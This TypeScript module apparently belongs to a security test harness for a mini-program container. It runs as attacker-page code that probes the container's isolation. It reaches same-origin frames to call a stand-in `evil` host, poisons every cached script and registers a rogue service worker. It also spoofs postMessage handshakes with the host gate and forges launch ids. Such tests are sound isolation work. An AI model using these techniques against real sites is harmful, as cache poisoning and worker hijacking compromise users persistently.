// How a mini-program turns on what delivers it: its cache, its worker, its launch page, its gate. Runs in the attacker's page.
import { element, settled, sleep } from '../../page/in-page.ts';

type Realm = Window & typeof globalThis;

const WAIT_MS = 500;

/** Null where no window may open: some engines say so, others throw. */
export function openWindow(url: string, name?: string): Window | null {
  try {
    return window.open(url, name);
  } catch {
    return null;
  }
}

/** Opens a page of its own origin in every way there is, and answers the realms that it can reach into. */
async function realmsOf(path: string): Promise<Realm[]> {
  const frame = element('iframe', { src: path }) as HTMLIFrameElement;
  const object = element('object', { data: path, type: 'text/html' }) as HTMLObjectElement;
  const embed = element('embed', { src: path, type: 'text/html' }) as HTMLEmbedElement;
  const late = element('iframe') as HTMLIFrameElement;
  late.contentWindow?.location.assign(path);
  const popup = openWindow(path);
  await sleep(WAIT_MS);
  const candidates = [
    frame.contentWindow,
    object.contentWindow,
    embed.getSVGDocument()?.defaultView,
    late.contentWindow,
    popup,
  ];
  return candidates.filter((realm): realm is Realm => {
    try {
      return realm != null && realm.document !== null && (realm as Realm).location.pathname === path;
    } catch {
      return false;
    }
  });
}

const versionCaches = async (): Promise<Cache[]> => Promise.all((await caches.keys()).map((name) => caches.open(name)));

const controller = (): string => navigator.serviceWorker.controller?.scriptURL ?? '';
const otherId = (url: string): string => url.replace(/([?&]i=)[0-9a-f]*/, `$1${'0'.repeat(64)}`);

export const deliveries = {
  /** Uses a page of its own origin that has other headers, or none, to reach `evil`. */
  async reachThrough(path: string, evil: string): Promise<void> {
    for (const realm of await realmsOf(path)) {
      await settled(realm.fetch(`${evil}/through`, { mode: 'no-cors' }), 500);
      const script = realm.document.createElement('script');
      script.textContent = `fetch(${JSON.stringify(`${evil}/script`)}, { mode: 'no-cors' })`;
      realm.document.documentElement.append(script);
    }
    await sleep(200);
  },
  /** Registers the container's worker with another version's id from a page that may. Answers what answers for the origin. */
  async registerThrough(path: string): Promise<string> {
    const ours = controller() || `${location.origin}/.container/sw.js?i=1`;
    for (const realm of [...(await realmsOf(path)), window as Realm])
      await settled(realm.navigator.serviceWorker.register(otherId(ours), { scope: '/' }), 800);
    await sleep(200);
    const [found] = await navigator.serviceWorker.getRegistrations();
    return (found?.installing ?? found?.waiting ?? found?.active)?.scriptURL ?? '';
  },
  controller,
  /** Other bytes under every name that its cache has. */
  async poison(text: string): Promise<void> {
    for (const cache of await versionCaches())
      for (const request of await cache.keys())
        await cache.put(request, new Response(text, { headers: { 'content-type': 'text/javascript' } }));
  },
  async drop(): Promise<void> {
    for (const cache of await versionCaches()) for (const request of await cache.keys()) await cache.delete(request);
  },
  async unregister(): Promise<void> {
    for (const registration of await navigator.serviceWorker.getRegistrations()) await registration.unregister();
  },
  async preload(): Promise<string> {
    const registration = await navigator.serviceWorker.getRegistration();
    await registration?.navigationPreload.enable();
    await registration?.navigationPreload.setHeaderValue('davit-preload');
    return `${(await registration?.navigationPreload.getState())?.enabled}`;
  },
  /** Status and text, or nothing when there is no answer. */
  async read(path: string): Promise<string> {
    const answer = await settled(fetch(path, { cache: 'no-store' }));
    return answer instanceof Response ? `${answer.status} ${(await answer.text()).slice(0, 200)}` : '';
  },
  /** Greets its gate as the host would; answers what came back. */
  async greetGate(): Promise<string> {
    const { port1, port2 } = new MessageChannel();
    const answers: string[] = [];
    port1.onmessage = ({ data }) => void answers.push(JSON.stringify(data));
    parent.postMessage({ davit: 1, gate: 1 }, '*', [port2]);
    port1.postMessage(['open', 'launch.html']);
    port1.postMessage(['run', { instance: 'mine' }]);
    await sleep(WAIT_MS);
    return answers.join();
  },
  /** Asks its gate for the port of a launch page. */
  async askForOrders(): Promise<string> {
    const answers: string[] = [];
    addEventListener('message', ({ data, ports: [port] }) => {
      if (data?.launch === 1 || (data?.init !== undefined && port === undefined)) answers.push(JSON.stringify(data));
    });
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => void answers.push(JSON.stringify(data));
    parent.postMessage({ davit: 1, launch: 1 }, '*', [port2]);
    parent.postMessage(['launch', 1], '*');
    parent.postMessage({ davit: 1, hello: { sdk: 'x', nonce: 7 } }, '*');
    await sleep(WAIT_MS);
    return answers.join();
  },
  /** Goes to the launch page with an id of its own, in each way in which an id can travel. */
  goToLaunch(way: 'query' | 'fragment' | 'name' | 'race'): void {
    const id = '0'.repeat(64);
    const page = '/.container/launch.html';
    if (way === 'name') window.name = id;
    // The gate answers a hello with a port, and the answer may arrive in the next document.
    if (way === 'race') parent.postMessage({ davit: 1, hello: { sdk: 'x', nonce: id } }, '*');
    location.assign(way === 'query' ? `${page}?i=${id}` : way === 'fragment' ? `${page}#${id}` : page);
  },
};
